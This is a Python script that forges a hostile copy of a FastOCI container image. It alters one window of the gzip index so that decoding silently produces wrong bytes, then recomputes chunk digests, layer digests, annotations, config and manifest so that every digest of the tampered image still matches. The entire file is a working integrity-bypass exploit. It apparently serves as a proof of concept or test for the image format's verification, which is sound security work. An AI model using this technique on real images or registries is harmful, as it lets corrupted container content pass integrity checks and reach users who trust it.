#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""forge.py LAYOUT TAG NEW_TAG: a hostile copy of a FastOCI image in an OCI layout.

In the meta layer of its first layer one window of the gzip index is changed, so that decoding from there gives wrong bytes
without any error, and the chunk digests are those of the wrong bytes. Everything else, the name of the original layer
too, is as it was: all digests of the copy match.
"""
import gzip, hashlib, io, json, struct, sys, tarfile, zlib

from crc32c import crc32c_raw

CHUNK = 65536


class Layout:
    def __init__(self, path):
        self.path = path
        with open(path + "/index.json") as f:
            self.index = json.load(f)

    def blob(self, digest):
        with open(f"{self.path}/blobs/sha256/{digest[7:]}", "rb") as f:
            return f.read()

    def put(self, data):
        digest = hashlib.sha256(data).hexdigest()
        with open(f"{self.path}/blobs/sha256/{digest}", "wb") as f:
            f.write(data)
        return "sha256:" + digest

    def find(self, tag):
        name = "org.opencontainers.image.ref.name"
        return next(m for m in self.index["manifests"] if m.get("annotations", {}).get(name) == tag)

    def add(self, tag, like, manifest):
        data = json.dumps(manifest).encode()
        entry = dict(like, digest=self.put(data), size=len(data),
                     annotations={"org.opencontainers.image.ref.name": tag})
        self.index["manifests"].append(entry)
        with open(self.path + "/index.json", "w") as f:
            json.dump(self.index, f)


def inflate_from(blob, position, bits, window, size):
    """Up to size bytes decoded from a checkpoint; the stream is shifted, as Python's zlib cannot begin in mid-byte.

    A stored block behind the shift would be read wrongly: the caller compares.
    """
    stream = blob[position - (bits != 0):position + size + 65536]
    if bits:
        stream = (int.from_bytes(stream, "little") >> (8 - bits)).to_bytes(len(stream), "little")
    try:
        return zlib.decompressobj(-15, zdict=window).decompress(stream, size)
    except zlib.error:
        return b""


def forge(meta, blob, data):
    """Changes meta (gzip.meta, a bytearray) and returns the data space that it leads to."""
    count, = struct.unpack_from("<q", meta, 25)
    start, area = struct.unpack_from("<qq", meta, 313)
    entries = zlib.decompress(bytes(meta[start:start + area]))
    entries = [struct.unpack_from("<qqqBI", entries, 29 * i) for i in range(count)]
    for i, (at, position, window_at, bits, window_bytes) in enumerate(entries[1:], 1):
        if not window_bytes:
            continue
        packed = bytes(meta[window_at:window_at + window_bytes])
        window = zlib.decompress(packed).ljust(32768, b"\0")
        span_end = entries[i + 1][0] if i + 1 < count else len(data)
        size = min(span_end + CHUNK, len(data)) - at
        if inflate_from(blob, position, bits, window, size) != data[at:at + size]:
            continue
        wrong = bytes(b ^ 0x55 if b else 0 for b in window)
        repacked = zlib.compress(wrong, 9)
        got = inflate_from(blob, position, bits, wrong, size)
        chunks = range(-(-at // CHUNK), -(-span_end // CHUNK))
        forged = bytearray(data)
        for c in chunks:
            forged[c * CHUNK:(c + 1) * CHUNK] = got[c * CHUNK - at:(c + 1) * CHUNK - at]
        if len(forged) != len(data) or forged == data:
            continue
        # The new window goes behind all others, where the index begins, and the index behind it.
        entries[i] = (at, position, start, bits, len(repacked))
        table = zlib.compress(b"".join(struct.pack("<qqqBI", *e) for e in entries))
        meta[start:] = repacked + table
        struct.pack_into("<qq", meta, 313, start + len(repacked), len(table))
        struct.pack_into("<q", meta, 41, len(meta))
        struct.pack_into("<I", meta, 329, crc32c_raw(meta[:329]))
        print(f"forged the window of entry {i} of {count}: {sum(a != b for a, b in zip(forged, data))} bytes differ")
        return bytes(forged)
    sys.exit("forge: no window reaches any byte")


def main():
    layout = Layout(sys.argv[1])
    entry = layout.find(sys.argv[2])
    manifest = json.loads(layout.blob(entry["digest"]))
    layer = manifest["layers"][0]
    target = next(v for k, v in layer["annotations"].items() if k.endswith("/target-digest"))
    blob = layout.blob(target)
    data = gzip.decompress(blob)
    old = layout.blob(layer["digest"])
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(old))) as tar, tarfile.open(fileobj=out, mode="w") as new:
        members = {m.name: (m, bytearray(tar.extractfile(m).read())) for m in tar}
        forged = forge(members["gzip.meta"][1], blob, data)
        members["fastoci.chunks"] = (members["fastoci.chunks"][0], b"".join(
            hashlib.sha256(forged[i:i + CHUNK]).digest() for i in range(0, len(forged), CHUNK)))
        for m, content in members.values():
            m.size = len(content)
            new.addfile(m, io.BytesIO(bytes(content)))
    packed = gzip.compress(out.getvalue(), mtime=0)
    was, now = layer["digest"], layout.put(packed)
    for k, v in layer["annotations"].items():
        if v == was:
            layer["annotations"][k] = now
        elif v == str(layer["size"]):
            layer["annotations"][k] = str(len(packed))
    layer.update(digest=now, size=len(packed))
    config = json.loads(layout.blob(manifest["config"]["digest"]))
    config["rootfs"]["diff_ids"][0] = "sha256:" + hashlib.sha256(out.getvalue()).hexdigest()
    config = json.dumps(config).encode()
    manifest["config"].update(digest=layout.put(config), size=len(config))
    layout.add(sys.argv[3], entry, manifest)


if __name__ == "__main__":
    main()
